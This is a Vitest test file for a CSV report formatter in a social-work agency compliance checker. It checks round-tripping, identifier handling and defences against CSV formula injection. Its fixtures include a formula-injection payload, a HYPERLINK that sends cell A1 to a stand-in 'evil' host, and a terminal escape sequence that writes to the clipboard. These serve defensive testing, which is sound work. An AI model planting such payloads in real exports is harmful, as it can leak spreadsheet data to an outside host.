import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { foreignDetails } from '../../test/helpers.js';
import { factoryRuleset, makeFinding, makeReport, payCap } from '../../test/report-factory.js';
import type { Finding } from '../types.js';
import { CSV_BASE_COLUMNS, csvChunks, formatCsv, neutraliseCell, neutraliseIdCell, parseCsvReport, unneutraliseCell, unneutraliseIdCell } from './csv.js';

const opts = { ruleset: factoryRuleset(), color: false, verbose: false };
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];

function hostileFindings(): Finding[] {
  return [
    payCap(58, 52, 37, { context: { worker_name: '=HYPERLINK("http://evil/?x="&A1,"click")', team: '-2+3' } }),
    payCap(38.005, 38, 22.5, {
      message: 'quote " comma , newline\nand CRLF\r\nend',
      assignment_id: '@SUM(1+1)',
      context: { agency: '+44 agency', worker_name: "'=already quoted", team: '\tTabbed', hours_per_week: null },
    }),
    makeFinding({
      rule: 'DFE-PQE', kind: 'min_pqe', status: 'unknown', swe_number: '', file: '-odd.csv', message: '\rstarts with CR',
      details: foreignDetails({ missing: ['pqe_months'], nested: { a: [1, 'two', null] } }),
      context: { la_name: null, role: null, agency: null, team: null, hours_per_week: null, worker_name: null },
    }),
    makeFinding({
      rule: 'DFE-NOTICE', kind: 'min_notice', severity: 'warning', status: 'exempted', exemption: 'SE-EX-2',
      details: { notice_weeks: 1, required: 4 }, context: { worker_name: 'Ünïcödé Nāme ✓', team: "''-two quotes", hours_per_week: 37.25 },
    }),
  ];
}

describe('formatCsv', () => {
  it('writes a BOM, CRLF line ends, a header and one row per finding', () => {
    const report = makeReport(hostileFindings());
    const csv = formatCsv(report, opts);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    // every line break outside quoted cells is CRLF: parse with a strict reader
    const rows = parse(csv.slice(1), { record_delimiter: '\r\n', relax_quotes: false }) as string[][];
    expect(rows).toHaveLength(1 + report.findings.length);
    // the columns of 0.1.0 keep their places; the readable details come after them
    expect(rows[0]!.slice(0, CSV_BASE_COLUMNS.length + 1)).toEqual([...CSV_BASE_COLUMNS, 'worker_name']);
    expect(rows[0]!.slice(CSV_BASE_COLUMNS.length + 1)).toEqual([
      'cap_basis', 'engagement_type', 'cap_from', 'cap_to', 'pqe_months', 'pqe_required_months', 'notice_weeks',
      'notice_required_weeks', 'missing_columns', 'exemptions_not_applied', 'details.nested',
    ]);
  });

  it('reads back into exactly the JSON findings (a tab as its placeholder)', () => {
    const report = makeReport(hostileFindings());
    const back = parseCsvReport(formatCsv(report, opts), opts.ruleset.roles);
    const shown = JSON.parse(JSON.stringify(report.findings).replace(/\\t/g, '\\\\x09'));
    expect(back.findings).toEqual(shown);
    expect(back.findings[1]!.message).toBe('quote " comma , newline\nand CRLF\r\nend');
    expect(back.findings[1]!.context!.team).toBe('\\x09Tabbed');
  });

  it('writes no control, bidi or zero-width character (ESC, BEL, U+202E, U+200B, DEL)', () => {
    const hostile = '\u001b]52;c;x\u0007\u202eevil\u200b\u200d\u009b\u007f';
    const csv = formatCsv(makeReport([payCap(58, 52, 37, { assignment_id: hostile, message: hostile, context: { team: hostile } })]), opts);
    expect(csv.slice(1)).not.toMatch(/[\u0000-\u0009\u000b\u000c\u000e-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\ufeff]/);
    expect(csv).toContain('\\x1B]52;c;x\\x07\\u202Eevil\\u200B\\u200D\\x9B\\x7F');
  });

  it('reads back reports without worker names or with a baseline mark', () => {
    const plain = [payCap(58, 52, 37), makeFinding({ rule: 'DFE-PQE', kind: 'min_pqe', details: {} })];
    expect(parseCsvReport(formatCsv(makeReport(plain), opts), opts.ruleset.roles).findings).toEqual(plain);
    const header = formatCsv(makeReport(plain), opts).split('\r\n')[0]!;
    expect(header).not.toContain('worker_name');
    const marked = [payCap(58, 52, 37, { baseline: 'new' }), payCap(59, 52, 37, { baseline: 'known' })];
    expect(parseCsvReport(formatCsv(makeReport(marked), opts), opts.ruleset.roles).findings).toEqual(marked);
  });

  it('leaves no formula-leading cell (OWASP CSV injection)', () => {
    const csv = formatCsv(makeReport(hostileFindings()), opts);
    const rows = parse(csv.slice(1), { record_delimiter: '\r\n' }) as string[][];
    for (const row of rows) {
      for (const cell of row) {
        expect(TRIGGERS.includes(cell.charAt(0)), JSON.stringify(cell)).toBe(false);
      }
    }
    expect(csv).toContain(`"'=HYPERLINK(""http://evil/?x=""&A1,""click"")"`);
    expect(csv).toContain(",'-2+3,");
    expect(csv).toContain("'@SUM(1+1)");
    expect(csv).toContain("'+44 agency");
    expect(csv).toContain("'-odd.csv");
    expect(csv).toContain(`"''=already quoted"`.replace(/"/g, ''));
  });

  it('gives council name, role, agency, rate and cap where they apply', () => {
    const csv = formatCsv(makeReport([payCap(60.5, 52, 37), makeFinding({ rule: 'DFE-PQE', kind: 'min_pqe', details: { pqe_months: 3, required: 36 } })]), opts);
    const [header, pay, pqe] = parse(csv.slice(1)) as string[][];
    const at = (row: string[], name: string) => row[header!.indexOf(name)];
    expect(at(pay!, 'council_name')).toBe('Kent');
    expect(at(pay!, 'role')).toBe('Team Manager'); // by its label, not the ruleset key
    expect(at(pay!, 'agency')).toBe('Acme Social Care');
    expect(at(pay!, 'rate')).toBe('60.50');
    expect(at(pay!, 'cap')).toBe('52.00');
    expect(at(pqe!, 'rate')).toBe('');
    expect(at(pqe!, 'cap')).toBe('');
    expect(JSON.parse(at(pay!, 'details')!)).toEqual(payCap(60.5, 52, 37).details);
    // the details again as readable columns, named for what they hold
    expect(at(pay!, 'cap_basis')).toBe('hourly_pay_rate');
    expect(at(pay!, 'cap_from')).toBe('2025-04-01');
    expect(at(pay!, 'cap_to')).toBe('');
    expect(at(pay!, 'pqe_months')).toBe('');
    expect(at(pqe!, 'pqe_months')).toBe('3');
    expect(at(pqe!, 'pqe_required_months')).toBe('36');
    expect(at(pqe!, 'cap_basis')).toBe('');
  });

  it('writes lists, exemptions not applied, yes/no and role labels in the detail columns', () => {
    const findings = [
      makeFinding({ rule: 'DFE-PQE', kind: 'min_pqe', status: 'unknown', details: { missing: ['pqe_months', 'start_date'] } }),
      payCap(60, 52, 37, { details: { exemption_not_applied: [{ id: 'SE-EX-1', reason: 'max_rate' }, { id: 'SE-EX-2', reason: 'role' }] } }),
      makeFinding({ rule: 'DFE-REFS', kind: 'references', details: { reference_count: 1, min_count: 2, reference_template: false } }),
      makeFinding({ rule: 'SE-HH', kind: 'head_hunting' as never, details: { previous_la: 'E10000011', previous_role: 'team_manager', promotion: null, role: 'team_manager' } as never }),
    ];
    const [header, unknown, pay, refs, hh] = parse(formatCsv(makeReport(findings), opts).slice(1)) as string[][];
    const at = (row: string[], name: string) => row[header!.indexOf(name)];
    expect(at(unknown!, 'missing_columns')).toBe('pqe_months, start_date');
    expect(at(pay!, 'exemptions_not_applied')).toBe('SE-EX-1 (max_rate); SE-EX-2 (role)');
    expect(at(refs!, 'reference_count')).toBe('1');
    expect(at(refs!, 'references_required')).toBe('2');
    expect(at(refs!, 'reference_template')).toBe('no');
    expect(at(hh!, 'previous_role')).toBe('Team Manager');
    expect(at(hh!, 'previous_la')).toBe('E10000011');
    expect(at(hh!, 'promotion')).toBe('');
    expect(header).not.toContain('details.role'); // shown in the role column
  });

  it('takes its detail columns from the ruleset, so a month without a kind\'s findings has the same header', () => {
    const ruleset = factoryRuleset();
    const kinds = new Set(ruleset.rules.map((r) => r.kind));
    const empty = formatCsv(makeReport([]), { ...opts, ruleset }).slice(1).split('\r\n')[0]!;
    const full = formatCsv(makeReport([payCap(58, 52, 37)]), { ...opts, ruleset }).slice(1).split('\r\n')[0]!;
    expect(empty).toBe(full);
    expect(empty.includes('cap_basis')).toBe(kinds.has('pay_cap'));
  });

  it('keeps identifiers text for a spreadsheet: an all-digit id, leading zeros, exponents, date-like ids', () => {
    const findings = [
      payCap(58, 52, 37, { id: '140512465302', assignment_id: '000123', swe_number: '12345', exemption: '2025-01' }),
      payCap(58, 52, 37, { id: '123e45678901', assignment_id: "'42", la_code: '886' }),
      payCap(58, 52, 37, { id: '3f9c0a1b2c4d', assignment_id: 'A-0042', la_code: 'E10000016' }),
    ];
    const csv = formatCsv(makeReport(findings), opts);
    const [header, a, b, c] = parse(csv.slice(1)) as string[][];
    const at = (row: string[], name: string) => row[header!.indexOf(name)];
    expect(at(a!, 'id')).toBe("'140512465302");
    expect(at(a!, 'assignment_id')).toBe("'000123");
    expect(at(a!, 'swe_number')).toBe("'12345");
    expect(at(a!, 'exemption')).toBe("'2025-01");
    expect(at(b!, 'id')).toBe("'123e45678901");
    expect(at(b!, 'assignment_id')).toBe("''42");
    expect(at(b!, 'la_code')).toBe("'886");
    // ordinary ids untouched; numbers meant as numbers (line, hours, rate) left as numbers
    expect(at(c!, 'id')).toBe('3f9c0a1b2c4d');
    expect(at(c!, 'assignment_id')).toBe('A-0042');
    expect(at(c!, 'la_code')).toBe('E10000016');
    expect(at(a!, 'line')).toMatch(/^\d+$/);
    expect(at(a!, 'rate')).toBe('58.00');
    // and they read back as they were
    expect(parseCsvReport(csv, opts.ruleset.roles).findings.map((f) => [f.id, f.assignment_id, f.la_code, f.swe_number, f.exemption])).toEqual(
      findings.map((f) => [f.id, f.assignment_id, f.la_code, f.swe_number, f.exemption]),
    );
  });

  it('comes in chunks that join to the whole file', () => {
    const report = makeReport(hostileFindings());
    expect(Array.from(csvChunks(report, opts)).join('')).toBe(formatCsv(report, opts));
  });
});

describe('neutralisation', () => {
  it('is reversed exactly, one apostrophe only before a trigger', () => {
    for (const text of ['=1+1', "'=1", "''@x", "'plain", "it's", '-', '', 'a=b', "'", '\t', "'\r"]) {
      expect(unneutraliseCell(neutraliseCell(text))).toBe(text);
      expect(/^[=+\-@\t\r]/.test(neutraliseCell(text))).toBe(false);
    }
    expect(unneutraliseCell("'plain")).toBe("'plain");
  });

  it('of identifiers is reversed exactly and still leaves no formula', () => {
    for (const text of ['123', "'123", "''1.5", '1e5', '2025-01-31', '12:30', '1,234', 'A1', '=1+1', "'=1", '-5', '', "'", 'SW12345', '1.2.3.4']) {
      expect(unneutraliseIdCell(neutraliseIdCell(text))).toBe(text);
      expect(/^[=+\-@\t\r]/.test(neutraliseIdCell(text))).toBe(false);
    }
    expect(neutraliseIdCell('A1')).toBe('A1');
    expect(neutraliseIdCell('0042')).toBe("'0042");
  });
});
